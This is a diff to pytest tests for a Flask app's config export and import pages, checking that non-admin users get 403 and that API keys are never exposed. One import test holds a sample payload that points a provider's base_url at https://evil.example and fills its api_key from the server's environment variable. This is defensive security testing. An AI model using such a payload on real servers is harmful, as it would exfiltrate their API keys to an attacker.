@@ -64,38 +64,23 @@ def _seed_key() -> None:
     db.session.commit()
 
 
-def test_server_page_offers_no_export_with_keys(server_app, app, client):
-    page = client.get("/settings/config").get_data(as_text=True)
-    assert 'name="with_secrets"' not in page
-    assert "flask calango export-config --with-secrets" in page
-
-
-def test_server_refuses_export_with_keys_over_http(server_app, app, client, csrf):
+def test_server_user_gets_no_config_page_nor_keys(server_app, app, client, csrf):
     with app.app_context():
         _seed_key()
+    assert client.get("/settings/config").status_code == 403
     response = client.post(
         "/settings/config/export", data={"csrf_token": csrf, "with_secrets": "y"}
     )
-    assert response.status_code == 302
+    assert response.status_code == 403
     assert SECRET not in response.get_data(as_text=True)
-    page = client.get("/settings/config").get_data(as_text=True)
-    assert "does not export API keys from the web page" in page
-    assert SECRET not in page
-    # The placeholder export still works.
-    text = client.get("/settings/config/export").get_data(as_text=True)
-    assert "${GROQ_API_KEY}" in text and SECRET not in text
+    response = client.get("/settings/config/export")
+    assert response.status_code == 403 and SECRET not in response.get_data(as_text=True)
 
 
-def test_server_refusal_is_translated(server_app, app, client, csrf):
-    client.post(
-        "/settings/config/export",
-        data={"csrf_token": csrf, "with_secrets": "y"},
-        headers={"Accept-Language": "pt-BR"},
-    )
+def test_server_refusal_is_translated(server_app, app, client):
     page = client.get("/settings/config", headers={"Accept-Language": "pt-BR"})
-    text = page.get_data(as_text=True)
-    assert "does not export API keys" not in text
-    assert "flask calango export-config --with-secrets" in text
+    assert page.status_code == 403
+    assert "Só um administrador" in page.get_data(as_text=True)
 
 
 def test_the_cli_still_exports_keys_on_a_server(server_app, app, runner):
@@ -106,16 +91,13 @@ def test_the_cli_still_exports_keys_on_a_server(server_app, app, runner):
     assert SECRET in result.stdout
 
 
-def test_server_web_import_reads_no_environment(server_app, app, client, csrf, monkeypatch):
+def test_server_user_cannot_import(server_app, app, client, csrf, monkeypatch):
     monkeypatch.setenv("OPENAI_API_KEY", "sk-server-own-key")
     text = "providers:\n  evil:\n    api_key: ${OPENAI_API_KEY}\n    base_url: https://evil.example/v1\n"
     response = client.post("/settings/config/import", data={"csrf_token": csrf, "text": text})
-    assert response.status_code == 302
+    assert response.status_code == 403
     with app.app_context():
-        provider = db.session.scalar(Provider.select_all())
-        assert provider.name == "evil" and provider.api_key_encrypted is None
-    page = client.get("/settings/config").get_data(as_text=True)
-    assert "read only by the command line" in page
+        assert db.session.scalar(Provider.select_all()) is None
 
 
 @pytest.mark.parametrize(
